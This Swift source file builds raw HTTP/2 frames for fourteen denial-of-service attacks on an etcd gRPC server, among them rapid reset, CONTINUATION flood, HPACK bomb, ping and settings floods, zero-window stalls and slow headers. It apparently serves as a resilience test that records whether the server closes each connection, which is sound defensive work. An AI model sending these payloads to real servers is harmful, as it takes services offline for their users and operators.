/// One way to wear out an HTTP/2 server, as bytes: what is sent once, and what is sent again and again.
struct Abuse: Sendable, CustomStringConvertible {
    let description: String
    /// Behind preface and settings.
    var opening: [UInt8] = []
    /// For the round with this number.
    let round: @Sendable (Int) -> [UInt8]
    /// Whether the server ends such a connection by itself, soon.
    let isEnded: Bool
    /// Whether the attacker reads what it is sent.
    var reads = true

    static let preface = Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8)

    static func frame(
        _ type: UInt8, flags: UInt8 = 0, stream: Int = 0, _ payload: [UInt8] = []
    ) -> [UInt8] {
        [
            UInt8(payload.count >> 16), UInt8(payload.count >> 8 & 255), UInt8(payload.count & 255),
            type, flags,
        ] + number(stream) + payload
    }

    static func number(_ value: Int) -> [UInt8] {
        [24, 16, 8, 0].map { UInt8(value >> $0 & 255) }
    }

    private static func text(_ text: String) -> [UInt8] {
        [UInt8(text.utf8.count)] + Array(text.utf8)
    }

    /// The header block of a gRPC call (RFC 7541), without any use of the dynamic table.
    static func call(_ path: String) -> [UInt8] {
        [0x83, 0x86, 0x04] + text(path) + [0x01] + text("x") + [0x0f, 0x10]
            + text("application/grpc") + [0x00] + text("te") + text("trailers")
    }

    static let range = call("/etcdserverpb.KV/Range")
    /// A range of all keys, as a gRPC message.
    static let rangeOfAll: [UInt8] = [0, 0, 0, 0, 6, 0x0a, 1, 0, 0x12, 1, 0]

    private static func stream(_ round: Int) -> Int { 2 * round + 1 }

    /// HEADERS that end, with the stream left open.
    private static func open(_ round: Int) -> [UInt8] {
        frame(1, flags: 4, stream: stream(round), range)
    }

    static let all: [Abuse] = [
        Abuse(
            description: "rapid reset",
            round: { open($0) + frame(3, stream: stream($0), number(8)) }, isEnded: true),
        Abuse(
            description: "made you reset",
            round: { open($0) + frame(8, stream: stream($0), number(0)) }, isEnded: true),
        Abuse(
            description: "continuation flood", opening: frame(1, stream: 1, range),
            round: { _ in frame(9, stream: 1, [0x00] + text("a") + text("b")) }, isEnded: true),
        // A large field in the table, and then thousands of references to it.
        Abuse(
            description: "HPACK bomb",
            round: { round in
                let field = [0x40] + text("bomb") + [0x7f, 0x80 + 0x21, 0x1e]
                let value = [UInt8](repeating: 65, count: 4_000)
                let block = range + field + value + [UInt8](repeating: 0xbe, count: 12_000)
                return frame(1, flags: 5, stream: stream(round), block)
            }, isEnded: true),
        Abuse(
            description: "ping flood", round: { _ in frame(6, [1, 2, 3, 4, 5, 6, 7, 8]) },
            isEnded: true),
        Abuse(
            description: "settings flood", round: { _ in frame(4, [0, 1, 0, 0, 16, 0]) },
            isEnded: true),
        Abuse(description: "window flood", round: { _ in frame(8, number(1)) }, isEnded: true),
        Abuse(
            description: "priority flood",
            round: { frame(2, stream: stream($0 % 100_000), number(0) + [7]) }, isEnded: true),
        Abuse(
            description: "empty frames", opening: open(0), round: { _ in frame(0, stream: 1) },
            isEnded: true),
        Abuse(
            description: "frames of one byte",
            opening: open(0) + frame(0, stream: 1, [0, 0, 16, 0, 0]),
            round: { _ in frame(0, stream: 1, [0]) }, isEnded: true),
        // What comes after its end is thrown away, as long as it is not too much.
        Abuse(
            description: "data of a stream that is over",
            opening: open(0) + frame(0, stream: 1, [0, 0, 0, 0, 0, 1]),
            round: { $0 < 200 ? frame(0, stream: 1, [0]) : [] }, isEnded: false),
        // No window for answers: what was asked for has to wait.
        Abuse(
            description: "zero window", opening: frame(4, [0, 4] + number(0)),
            round: { round in
                guard round < 200 else { return [] }
                return open(round) + frame(0, flags: 1, stream: stream(round), rangeOfAll)
            }, isEnded: false, reads: false),
        Abuse(
            description: "stream id jumps",
            round: { open($0 * 100_000) + frame(3, stream: stream($0 * 100_000), number(8)) },
            isEnded: true),
        // Byte by byte, never complete; the time for it is ten seconds.
        Abuse(
            description: "slow headers", opening: Array(frame(1, stream: 1, range).dropLast(5)),
            round: { _ in [] }, isEnded: false),
    ]
}
